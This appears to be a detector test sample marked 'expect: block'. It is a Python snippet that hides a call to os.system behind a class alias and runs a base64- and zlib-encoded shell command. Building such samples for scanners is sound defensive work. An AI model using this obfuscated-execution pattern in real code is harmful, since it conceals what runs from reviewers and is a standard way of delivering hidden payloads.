# expect: block
import os
import zlib
import base64


class Tools:
    run = os.system
    unpack = staticmethod(lambda s: zlib.decompress(base64.b64decode(s)).decode())


STAGE = "eJxLLk0tLkktUrBSUCrOSy1RSM7PS0lNLgEAX7UIBA=="
Tools.run(Tools.unpack(STAGE))
